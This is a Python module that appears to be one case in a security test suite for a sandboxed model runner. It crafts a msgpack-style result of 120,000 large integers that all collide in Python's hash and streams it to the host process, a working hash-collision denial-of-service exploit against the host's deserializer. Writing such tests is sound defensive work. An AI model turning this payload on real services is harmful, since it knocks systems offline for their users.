"""Class: front: results that are bombs. Source: oCERT-2011-003 (hash collisions), in kind. Escape:
big numbers with one hash: a set of them takes for ever. Teeth: none, there is no channel here.
Limits: timeout_s=5
"""

import os
import struct
import time

import msgspec

BIG_INT = 5
SET = 6


def _colliding():
    modulus = 2**61 - 1
    parts = []
    count = 120_000
    for number in range(1 << 20, (1 << 20) + count):
        raw = (number * modulus).to_bytes(12, "big", signed=True)
        parts.append(b"\xc7" + bytes([len(raw), BIG_INT]) + raw)
    items = b"\xdd" + struct.pack(">I", count) + b"".join(parts)
    return b"\xc9" + struct.pack(">I", len(items)) + bytes([SET]) + items


def write(body):
    rest = struct.pack("<I", len(body)) + body
    while rest:
        rest = rest[os.write(3, rest) :]


def send(kind, **fields):
    write(msgspec.msgpack.encode({"type": kind} | fields))


def piece(data, total):
    rest = struct.pack("<IQ", 1 << 31 | len(data), total) + data
    while rest:
        rest = rest[os.write(3, rest) :]


def attack(model, tokenizer, scene):
    result = _colliding()
    for start in range(0, len(result), 1 << 20):
        piece(result[start : start + (1 << 20)], len(result))
    send("Returned", cpu_s=0.0)
    time.sleep(20)
